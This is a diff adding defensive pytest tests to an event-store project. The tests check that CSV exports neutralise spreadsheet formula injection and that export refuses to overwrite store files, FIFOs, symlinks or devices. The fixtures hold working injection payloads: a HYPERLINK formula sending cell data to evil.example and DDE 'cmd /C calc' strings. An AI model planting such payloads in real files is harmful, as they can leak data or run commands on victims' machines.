@@ -142,3 +142,152 @@ def test_store_bench_measures_both_databases(postgres_server) -> None:
     # Both databases hold the same corpus, so every query returns the same rows.
     sqlite_rows = [q["rows"] for q in result["backends"]["sqlite"]["queries"]]
     assert sqlite_rows == [q["rows"] for q in result["backends"]["postgresql"]["queries"]]
+
+
+FORMULAS = {
+    "outlet": '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "notes": "+cmd|' /C calc'!A0",
+    "actor": "-2+3+cmd|' /C calc'!A0",
+    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "admin1": "\t=1+1",
+    "admin2": "\r=1+1",
+}
+
+
+def _formula_store(url: str) -> None:
+    "A store holding one event whose outlet, notes, actor and place start like formulas."
+    import dataclasses
+
+    from api_data import xss_article
+
+    from sitrep.store import open_store
+
+    article, (event,) = xss_article()
+    article = dataclasses.replace(article, outlet=FORMULAS["outlet"])
+    actor = dataclasses.replace(event.actors[0], name=FORMULAS["actor"])
+    place = dataclasses.replace(
+        event.location,
+        name=FORMULAS["place"],
+        admin1=FORMULAS["admin1"],
+        admin2=FORMULAS["admin2"],
+        longitude=-3.5,
+    )
+    event = dataclasses.replace(
+        event,
+        actors=(actor, *event.actors[1:]),
+        location=place,
+        notes=FORMULAS["notes"],
+        sources=(FORMULAS["outlet"],),
+    )
+    with open_store(url) as store:
+        store.ingest(article, [event])
+
+
+def _cells(text: str) -> dict[str, str]:
+    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
+    return {
+        "outlet": row["source"],
+        "notes": row["notes"],
+        "actor": row["actor1"],
+        "place": row["location"],
+        "admin1": row["admin1"],
+        "admin2": row["admin2"],
+        "longitude": row["longitude"],
+    }
+
+
+@pytest.mark.reliability(
+    "outlet, notes, actor or place starting with =, +, -, @, tab or CR in a CSV export",
+    "a leading ' so spreadsheets show it as text (OWASP); --raw-cells writes it as stored",
+)
+def test_csv_cells_never_run_as_formulas(store_url, tmp_path) -> None:
+    from api_data import TestClient
+
+    from sitrep.api import create_app
+
+    _formula_store(store_url)
+    defused = {name: "'" + value for name, value in FORMULAS.items()}
+    out = tmp_path / "events.csv"
+    written = _run("export", "--db", store_url, "--format", "acled-csv", "-o", str(out))
+    assert written.exit_code == 0, written.stderr
+    with TestClient(create_app(store_url)) as client:
+        api = client.get("/api/export", params={"format": "acled-csv"})
+        api_raw = client.get("/api/export", params={"format": "acled-csv", "raw_cells": "true"})
+    outputs = {
+        "export -o": out.read_bytes().decode("utf-8"),
+        "export": _run("export", "--db", store_url, "--format", "acled-csv").stdout,
+        "events": _run("events", "--db", store_url, "--format", "csv").stdout,
+        "/api/export": api.text,
+    }
+    for where, text in outputs.items():
+        cells = _cells(text)
+        assert cells.pop("longitude") == "-3.5", where  # a number stays a number
+        assert cells == defused, where
+    raw = {
+        "export": _run("export", "--db", store_url, "--format", "acled-csv", "--raw-cells").stdout,
+        "events": _run("events", "--db", store_url, "--format", "csv", "--raw-cells").stdout,
+        "/api/export": api_raw.text,
+    }
+    for where, text in raw.items():
+        cells = _cells(text)
+        cells.pop("longitude")
+        assert cells == FORMULAS, where
+
+
+def _stored(url: str) -> int:
+    lines = _run("events", "--db", url, "--format", "jsonl").stdout.splitlines()
+    return len(lines)
+
+
+@pytest.mark.reliability(
+    "export -o onto the store (x.db, x.db-wal, a hard link), a FIFO, a symlink, a device",
+    "refused with one line naming the path; nothing is replaced; files go via a temp + rename",
+)
+def test_export_never_writes_onto_the_store_or_a_special_file(store_url, tmp_path) -> None:
+    import os
+    import stat
+
+    _formula_store(store_url)
+    before = _stored(store_url)
+    targets: dict[Path, str] = {}
+    if not store_url.startswith("postgresql"):
+        db = Path(store_url)
+        link = tmp_path / "hardlink.db"
+        os.link(db, link)
+        relative = os.path.relpath(db)
+        for path in (db, Path(f"{db}-wal"), Path(f"{db}-journal"), link, Path(relative)):
+            targets[path] = "is a file of the store being exported"
+    fifo = tmp_path / "fifo"
+    os.mkfifo(fifo)
+    targets[fifo] = "is a FIFO, not a regular file"
+    real = tmp_path / "real.jsonl"
+    real.write_text("keep me\n")
+    symlink = tmp_path / "link.jsonl"
+    symlink.symlink_to(real)
+    targets[symlink] = "is a symbolic link, not a regular file"
+    device = tmp_path / "null"
+    try:
+        os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # like /dev/null
+    except PermissionError:
+        pass  # not root: FIFOs and links still cover "not a regular file"
+    else:
+        targets[device] = "is a character device, not a regular file"
+    for target, problem in targets.items():
+        shown = os.lstat(target) if target.exists() or target.is_symlink() else None
+        result = _run("export", "--db", store_url, "--format", "jsonl", "-o", str(target))
+        assert result.exit_code == 1, (target, result.stderr)
+        (line,) = result.stderr.splitlines()
+        assert line.startswith(f"Error: {target}: {problem}"), line
+        assert "wrote" not in result.stderr
+        if shown is not None:  # the very same file (or node) is still there
+            after = os.lstat(target)
+            assert (after.st_ino, after.st_mode) == (shown.st_ino, shown.st_mode), target
+    assert real.read_text() == "keep me\n" and symlink.is_symlink()
+    assert _stored(store_url) == before
+    # A new path and an existing regular file are written whole, with no temporary left.
+    for out in (tmp_path / "new.jsonl", real):
+        result = _run("export", "--db", store_url, "--format", "jsonl", "-o", str(out))
+        assert result.exit_code == 0, result.stderr
+        assert len(out.read_text().splitlines()) == before
+    left = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("."))
+    assert left == []
